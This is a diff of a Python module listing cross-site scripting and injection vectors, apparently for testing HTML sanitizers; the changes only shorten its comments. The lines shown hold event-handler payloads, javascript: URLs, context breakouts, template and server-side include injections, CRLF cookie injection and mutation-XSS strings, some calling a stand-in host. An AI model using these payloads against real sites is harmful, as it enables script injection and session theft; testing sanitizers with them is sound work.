@@ -1,12 +1,12 @@
-"""What vectors are made of. `@@` stands for a vector's number, `@64{…}` for its content in base64.
+"""Parts of vectors. `@@` stands for the number, `@64{…}` for base64.
 
-A part that runs calls `__ran(@@)`; one that can only fetch or lead elsewhere names `hit.example/@@`. HTML is written in one
-plain form, `<tag name="value">`, which `spellings` rewrite. The sources are the lists that `published` names, PortSwigger's
-cheat sheet, HTML's and SVG's lists of event handlers, and the bugs of sanitizers that were told in public.
+Parts that run call `__ran(@@)`; others name `hit.example/@@`. HTML is written as `<tag name="value">`, which
+`spellings` rewrites. Sources: the lists in `published`, PortSwigger's cheat sheet, the event handlers of HTML and SVG,
+and published sanitizer bugs.
 """
 
-# https://html.spec.whatwg.org/multipage/indices.html#attributes-3, UI Events, Pointer Events, CSS Animations and Transitions,
-# SVG 2 and SMIL, touch, clipboard, and those that only old browsers had.
+# https://html.spec.whatwg.org/multipage/indices.html#attributes-3, UI Events, Pointer Events, CSS Animations and
+# Transitions, SVG 2 and SMIL, touch, clipboard, and those of old browsers.
 EVENTS = [
     "abort",
     "activate",
@@ -154,7 +154,7 @@ EVENTS = [
     "zoom",
 ]
 
-# Elements with what makes them do something; `@on` is where a handler goes.
+# Elements with what triggers them; `@on` is the handler.
 HOSTS = (
     '<img src="x" @on>',
     "<svg @on></svg>",
@@ -285,7 +285,7 @@ CARRIERS = (
     '<html onload="__ran(@@)"><head onload="__ran(@@)">',
 )
 
-# CSS that fetched or ran something somewhere, some time.
+# CSS that fetches or runs something in some browser.
 STYLES = (
     "background:url(//hit.example/@@)",
     "background:url('javascript:__ran(@@)')",
@@ -326,7 +326,7 @@ STYLED = (
     '{style="@css"}',
 )
 
-# Addresses that run something, or that are documents in themselves.
+# URLs that run scripts or are documents themselves.
 URLS = (
     "javascript:__ran(@@)",
     "javascript://x/%0a__ran(@@)",
@@ -354,7 +354,7 @@ URLS = (
     "about:blank#@@",
 )
 
-# Where an address stands; `@url` is where.
+# `@url` is the URL.
 LINKS = (
     "[x](@url)",
     "[x](<@url>)",
@@ -378,7 +378,7 @@ LINKS = (
     '<svg><a xlink:href="@url"><text>x</text></a></svg>',
 )
 
-# What closes where a text may stand, so that what follows is markup.
+# These end a string's context, so that markup follows.
 BREAKOUTS = (
     '">', "'>", "`>", '"/>', "\">'>`>", '"><', "' ", '" ', "</title>", "</style>", "</textarea>", "</script>", "</noscript>",
     "</xmp>", "</iframe>", "</template>", "</select>", "</option>", "</svg>", "</math>", "</code></pre>", "</head><body>",
@@ -397,7 +397,7 @@ BROKEN_OUT = (
     "<link rel=stylesheet href=//hit.example/@@>",
 )
 
-# What template engines, on either side, would take for code.
+# For template engines on server or client.
 TEMPLATES = (
     "{{7*7}}", "{{constructor.constructor('__ran(@@)')()}}", "${__ran(@@)}", "#{__ran(@@)}", "<%= __ran(@@) %>", "<?= 7*7 ?>",
     "{% raw %}<script>__ran(@@)</script>{% endraw %}", "{{ '<script>__ran(@@)</script>' | safe }}", "{{ self.__init__.__globals__ }}",
@@ -406,7 +406,7 @@ TEMPLATES = (
     '<!--#exec cmd="id"-->', '<!--#include virtual="/@@"-->', '<esi:include src="//hit.example/@@"/>', "%0d%0aSet-Cookie:x=@@",
 )  # fmt: skip
 
-# Where a parser that reads what another wrote sees something else than it did; `@in` is what it would run.
+# Mutation XSS: reparsing the serialization yields another tree, in which `@in` runs.
 MUTATIONS = (
     "<svg><style>@in</style></svg>",
     "<svg><style><!--</style>@in--></style></svg>",
@@ -474,7 +474,6 @@ MUTATED = (
     '"><img src onerror=__ran(@@)>',
 )
 
-# Markdown around markup: what its own constructs make of it.
 MARKDOWN = (
     "@in",
     "**@in**",
